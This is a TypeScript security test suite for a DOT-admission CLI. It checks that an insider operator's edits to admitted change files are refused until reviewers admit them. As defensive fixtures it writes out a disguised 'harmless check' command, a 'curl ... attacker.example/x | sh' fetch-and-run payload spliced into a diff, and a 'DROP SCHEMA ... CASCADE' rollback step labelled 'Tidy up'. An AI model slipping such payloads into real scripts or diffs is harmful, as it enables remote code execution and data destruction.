/**
 * The DOT author's attack (threat model points 1 and 5), run as an insider operator would
 * through the built CLI against a real PostgreSQL: edit an admitted DOT, add a new one, or edit
 * a rollback after the apply. Beside each, the legitimate path: reviewers admit, it works.
 */
import { after, before, describe, test } from 'node:test';
import assert from 'node:assert/strict';
import { existsSync } from 'node:fs';
import { readFile, writeFile } from 'node:fs/promises';
import { join, resolve } from 'node:path';
import { createWalk, privateDots, privileges, replaceIn, schemaRows, type Walk } from '../exec/harness.js';
import { paramsFor } from '../helpers/incident.js';

describe('only admitted DOT content runs', () => {
  let w: Walk;
  let pwned: string;
  before(async () => {
    w = await createWalk('sec_admit');
    pwned = join(w.inc.dir, 'pwned');
    w.dots = await privateDots(w, 'dots-team', async () => undefined);
    for (const r of [w.inc.reviewer1, w.inc.reviewer2]) assert.equal(w.cli(r, ['admit', '--all']).code, 0);
  });
  after(async () => {
    await w?.inc.cleanup();
  });
  const grant = (): string => join(w.dots, 'DOT-PG-GRANT-SCHEMA.yaml');
  const propose = async (refs: string[], extra: string[] = []) =>
    w.cli(w.inc.operator, [
      'propose',
      ...refs,
      ...(await paramsFor(
        w.inc,
        refs.map((r) => (r === 'DOT-PG-EVIL' ? 'A' : r)),
      )),
      ...extra,
      '--json',
    ]);

  test('an operator edits an admitted pre-check: propose is refused (exit 3) naming the file, and the added command never runs', async () => {
    await replaceIn(grant(), 'pre_check:\n', `pre_check:\n  - kind: command\n    name: Looks like a harmless check\n    read_only: true\n    argv: [touch, ${pwned}]\n    expect: { exit_code: 0 }\n`);
    for (const extra of [[], ['--offline']]) {
      const r = await propose(['A', 'D'], extra);
      assert.equal(r.code, 3, r.stderr);
      assert.match(r.stderr, /DOT-PG-GRANT-SCHEMA\.yaml changed since DOT-PG-GRANT-SCHEMA was last admitted \(v\d+, .*\).*needs admission .* by 1 distinct reviewer.*dotctl admit DOT-PG-GRANT-SCHEMA/);
    }
    assert.equal(existsSync(pwned), false, 'the unadmitted command ran at propose time');
    assert.ok(w.events().some((e) => e.event === 'refused' && e.dot_id === 'DOT-PG-GRANT-SCHEMA' && e.actor === w.inc.operator.name));
  });

  test('an edited diff file is named too; putting the admitted text back makes it proposable again', async () => {
    const diff = join(w.dots, 'DOT-BACKUP-SCRIPT-HARDEN.harden.diff');
    const original = await readFile(diff, 'utf8');
    // an added line of the hunk gains a payload (line counts unchanged, so the diff stays valid)
    await writeFile(diff, original.replace(/\n\+(?!\+\+)([^\n]*)/, '\n+$1; curl -s https://attacker.example/x | sh'));
    const r = await propose(['D'], ['--offline']);
    assert.equal(r.code, 3, r.stderr);
    assert.match(r.stderr, /DOT-BACKUP-SCRIPT-HARDEN\.harden\.diff changed since DOT-BACKUP-SCRIPT-HARDEN was last admitted/);
    await writeFile(diff, original);
    assert.equal((await propose(['D'], ['--offline'])).code, 0);
  });

  test('a brand-new DOT file is refused until two distinct reviewers admit it', async () => {
    const text = await readFile(resolve('dots/DOT-PG-GRANT-SCHEMA.yaml'), 'utf8');
    await writeFile(join(w.dots, 'DOT-PG-EVIL.yaml'), text.replace('id: DOT-PG-GRANT-SCHEMA', 'id: DOT-PG-EVIL').replace(/^option: A$/m, 'option: Z'));
    const refused = await propose(['DOT-PG-EVIL', 'D'], ['--offline']);
    assert.equal(refused.code, 3, refused.stderr);
    assert.match(refused.stderr, /DOT-PG-EVIL \(DOT-PG-EVIL\.yaml, laws\.yaml\) was never admitted by reviewers; .*by 2 distinct reviewer\(s\) \(a DOT never admitted before\), 0 so far/);
    const operatorAdmits = w.cli(w.inc.operator, ['admit', 'DOT-PG-EVIL']);
    assert.equal(operatorAdmits.code, 3);
    assert.match(operatorAdmits.stderr, /olga is not a reviewer; only reviewers admit DOT content/);
    assert.equal(w.cli(w.inc.reviewer1, ['admit', 'DOT-PG-EVIL']).code, 0);
    assert.equal(w.cli(w.inc.reviewer1, ['admit', 'DOT-PG-EVIL']).code, 0); // again: counts once
    const one = await propose(['DOT-PG-EVIL', 'D'], ['--offline']);
    assert.equal(one.code, 3);
    assert.match(one.stderr, /2 distinct reviewer\(s\).*1 so far \(rita\)/);
    assert.equal(w.cli(w.inc.reviewer2, ['admit', 'DOT-PG-EVIL', '--comment', 'read it']).code, 0);
    const ok = await propose(['DOT-PG-EVIL', 'D'], ['--offline']);
    assert.equal(ok.code, 0, ok.stderr);
  });

  test('legitimate path: once a reviewer admits the edited pre-check (marked read_only by its author), propose runs it', async () => {
    const a = w.cli(w.inc.reviewer2, ['admit', 'A', '--comment', 'the extra check is fine']);
    assert.equal(a.code, 0, a.stderr);
    assert.match(a.stdout, /DOT-PG-GRANT-SCHEMA v\d+ content [0-9a-f]{16}… admitted; may be proposed/);
    const r = await propose(['A', 'D']);
    assert.equal(r.code, 0, r.stderr);
    assert.equal(existsSync(pwned), true);
    const list = w.cli(null, ['admissions', 'A']);
    assert.equal(list.code, 0, list.stderr);
    assert.match(list.stdout, /DOT-PG-GRANT-SCHEMA v\d+ current content [0-9a-f]{16}…: admitted\n( {2}.* rita .*\n)( {2}.* raj .*\n) {2}.* raj .* \(current\) {2}the extra check is fine\n/);
  });

  test('rollback runs the rollback frozen in the proposal, not the file as it is after the apply', async () => {
    w.dots = await privateDots(w, 'dots-rollback', async () => undefined); // the content admitted first
    const id = await w.propose(['A', 'D']);
    w.approve(id);
    const applied = w.cli(w.inc.operator2, ['apply', id]);
    assert.equal(applied.code, 0, applied.stderr);
    assert.match(await privileges(w, w.inc.dumpRole), /^usage=true/);
    await replaceIn(join(w.dots, 'DOT-PG-GRANT-SCHEMA.yaml'), '\n\npost_verify:\n', '\n  - kind: sql\n    name: Tidy up\n    sql: DROP SCHEMA :"schema" CASCADE\n\npost_verify:\n');
    const r = w.cli(w.inc.operator2, ['rollback', id]);
    assert.equal(r.code, 0, r.stderr);
    assert.doesNotMatch(r.stdout, /Tidy up/);
    assert.equal(await schemaRows(w), 243, 'the schema the edited rollback drops is still there with its rows');
    assert.match(await privileges(w, w.inc.dumpRole), /^usage=false/);
  });
});
